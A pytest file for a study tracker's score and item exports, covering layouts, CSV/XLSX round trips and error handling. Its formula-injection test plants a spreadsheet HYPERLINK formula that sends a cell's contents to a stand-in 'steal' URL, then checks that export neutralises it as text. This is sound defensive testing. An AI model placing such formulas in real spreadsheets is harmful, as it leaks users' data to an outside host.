"""tracker export scores|items: layouts, round trip through the importer, formula neutralisation."""

from __future__ import annotations

import csv
import datetime as dt

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete

from tests.ingest.conftest import run_import, stored, write
from tracker.db.engine import open_session
from tracker.db.models import Administration, ItemResponse
from tracker.errors import NotFound, TrackerError

DATA = (
    "participant,wave,completed,who5_completed,pss4_1,pss4_2,pss4_3,pss4_4,who5_1,who5_2,who5_3,who5_4,who5_5,sleep_1,sleep_2\n"
    "P001,baseline,2027-03-02,2027-03-05,1,2,3,4,5,4,3,2,1,7.5,\n"
    "P002,baseline,,,0,1,,2,,,,,,,\n"
    "P001,post,2027-04-27,,2,2,2,3,,,,,,8,6.25\n"
    "P004,baseline,2027-03-03,,4,4,3,4,0,1,0,1,0,,\n"
)


ANALYST = [
    "enrolled",
    "age",
    "birth_year",
    "gender",
    "role",
    "status",
    "withdrawn_on",
    "withdrawal_reason",
]


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.fixture
def filled(url, tmp_path):
    run_import(url, write(tmp_path, "data.csv", DATA))
    return url


def test_scores_long(filled, cli, tmp_path):
    out = cli("export", "scores", "--layout", "long", "--out", "scores.csv").output
    rows = read_csv(tmp_path / "scores.csv")
    assert out == f"Wrote {len(rows) - 1} rows to scores.csv.\n"
    # the first stage's columns first, in their order; the analyst columns after them
    assert rows[0] == [
        "participant",
        "cohort",
        "arm",
        "wave",
        "measure",
        "score",
        "items_answered",
        "prorated",
        "completed",
        *ANALYST,
    ]
    first = [r[:8] for r in rows]
    assert ["P001", "A", "intervention", "baseline", "pss4", "8.0", "4", "False"] in first
    assert [
        "P002",
        "A",
        "intervention",
        "baseline",
        "pss4",
        "",
        "3",
        "False",
    ] in first  # too many missing
    assert ["P001", "A", "intervention", "post", "sleep", "7.125", "2", "False"] in first
    # the administration's own completion date; the participant's enrolment and status
    assert [
        "P001",
        "A",
        "intervention",
        "baseline",
        "who5",
        "60.0",
        "5",
        "False",
        "2027-03-05",
        "2027-03-01",
        "",
        "",
        "",
        "",
        "active",
        "",
        "",
    ] in rows
    assert [
        "P002",
        "A",
        "intervention",
        "baseline",
        "pss4",
        "",
        "3",
        "False",
        "",
        "2027-03-01",
        "",
        "",
        "",
        "",
        "active",
        "",
        "",
    ] in rows


def test_scores_wide_one_wave(filled, cli, tmp_path):
    cli("export", "scores", "--wave", "baseline", "--out", "b.csv")
    rows = read_csv(tmp_path / "b.csv")
    assert rows[0] == [
        "participant",
        "cohort",
        "arm",
        "wave",
        "pss4",
        "sleep",
        "who5",
        *ANALYST,
        "pss4_completed",
        "sleep_completed",
        "who5_completed",
    ]
    people = ["2027-03-01", "", "", "", "", "active", "", ""]
    assert rows[1:] == [
        [
            "P001",
            "A",
            "intervention",
            "baseline",
            "8.0",
            "",
            "60.0",
            *people,
            "2027-03-02",
            "2027-03-02",
            "2027-03-05",
        ],
        ["P002", "A", "intervention", "baseline", "", "", "", *people, "", "", ""],
        # 4 + (4-4) + (4-3) + 4: items 2, 3 reversed
        [
            "P004",
            "B",
            "control",
            "baseline",
            "9.0",
            "",
            "8.0",
            *people,
            "2027-03-03",
            "",
            "2027-03-03",
        ],
    ]


def test_scores_xlsx(filled, cli, tmp_path):
    cli("export", "scores", "--out", "s.xlsx")
    wb = load_workbook(tmp_path / "s.xlsx", read_only=True)
    rows = list(wb.worksheets[0].iter_rows(values_only=True))
    wb.close()
    assert rows[0][:7] == ("participant", "cohort", "arm", "wave", "pss4", "sleep", "who5")
    assert rows[1][:7] == ("P001", "A", "intervention", "baseline", 8, None, 60)
    assert rows[1][7] == dt.datetime(2027, 3, 1)  # dates are dates in a workbook


def test_items_long(filled, cli, tmp_path):
    cli("export", "items", "--layout", "long", "--wave", "post", "--out", "i.csv")
    assert read_csv(tmp_path / "i.csv") == [
        ["participant", "cohort", "arm", "wave", "instrument", "item", "value"],
        ["P001", "A", "intervention", "post", "pss4", "1", "2"],
        ["P001", "A", "intervention", "post", "pss4", "2", "2"],
        ["P001", "A", "intervention", "post", "pss4", "3", "2"],
        ["P001", "A", "intervention", "post", "pss4", "4", "3"],
        ["P001", "A", "intervention", "post", "sleep", "1", "8"],
        ["P001", "A", "intervention", "post", "sleep", "2", "6.25"],
    ]


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_items_wide_imports_again_unchanged(filled, cli, tmp_path, suffix):
    before = stored(filled)
    cli("export", "items", "--out", f"all.{suffix}")
    # into the same database: everything is already there
    assert "already imported: nothing changed" in cli("import", "responses", f"all.{suffix}").output
    # into an emptied one: exactly what was there before, per-instrument dates included
    with open_session(filled) as s:
        s.execute(delete(ItemResponse))
        s.execute(delete(Administration))
        s.commit()
    cli("import", "responses", f"all.{suffix}")
    assert stored(filled) == before
    assert before[("P001", "baseline", "who5")]["completed"] == dt.date(2027, 3, 5)


def test_items_wide_single_completed_column_when_dates_agree(url, cli, tmp_path):
    run_import(
        url,
        write(
            tmp_path,
            "d.csv",
            "participant,completed,pss4_1,who5_1\nP001,2027-03-02,1,2\nP002,,3,\n",
        ),
        wave="baseline",
    )
    cli("export", "items", "--out", "w.csv")
    assert read_csv(tmp_path / "w.csv") == [
        [
            "participant",
            "wave",
            "completed",
            "pss4_1",
            "pss4_2",
            "pss4_3",
            "pss4_4",
            "who5_1",
            "who5_2",
            "who5_3",
            "who5_4",
            "who5_5",
        ],
        ["P001", "baseline", "2027-03-02", "1", "", "", "", "2", "", "", "", ""],
        ["P002", "baseline", "", "3", "", "", "", "", "", "", "", ""],
    ]


def test_formula_injection_is_neutralised(url, cli, tmp_path):
    from tracker.study.cohorts import add_cohort
    from tracker.study.participants import add_participant
    from tracker.study.studies import resolve_study
    from tracker.study.waves import add_wave

    evil = '=HYPERLINK("http://example.org/steal?x="&A1,"click")'
    with open_session(url) as s:
        study = resolve_study(s)
        add_cohort(s, study, evil, arm="+control")
        add_participant(s, study, "E001", cohort=evil)
        add_wave(s, study, "-1wk", day=-7)
        s.commit()
    run_import(
        url,
        write(tmp_path, "e.csv", "participant,pss4_1,pss4_2,pss4_3,pss4_4\nE001,1,1,1,2\n"),
        wave="-1wk",
    )
    cli("export", "scores", "--layout", "long", "--out", "s.csv")
    rows = read_csv(tmp_path / "s.csv")
    assert rows[1][:4] == ["E001", "'" + evil, "'+control", "'-1wk"]
    cli("export", "scores", "--layout", "long", "--out", "s.xlsx")
    wb = load_workbook(tmp_path / "s.xlsx")
    cells = list(wb.worksheets[0].iter_rows(min_row=2, max_row=2))[0]
    assert [c.value for c in cells[:4]] == ["E001", "'" + evil, "'+control", "'-1wk"]
    assert all(c.data_type == "s" for c in cells[:4])  # text, not formulas
    wb.close()
    # the neutralised wave name imports back as the wave it names
    cli("export", "items", "--out", "i.csv")
    assert read_csv(tmp_path / "i.csv")[1][:2] == ["E001", "'-1wk"]
    assert "already imported" in cli("import", "responses", "i.csv").output


def test_export_errors(filled, tmp_path):
    from tracker.datasets.export import export_items, export_scores
    from tracker.study.studies import resolve_study

    with open_session(filled) as s:
        study = resolve_study(s)
        with pytest.raises(
            TrackerError,
            match=r"cannot tell the file type of .*s\.txt: name it \.csv, \.xlsx, \.sav, \.dta, \.rds, \.parquet",
        ):
            export_scores(s, study, tmp_path / "s.txt")
        with pytest.raises(NotFound, match="no wave named 'week 9'"):
            export_items(s, study, tmp_path / "s.csv", wave="week 9")
        with pytest.raises(TrackerError, match="cannot write"):
            export_items(s, study, tmp_path / "missing" / "s.csv")
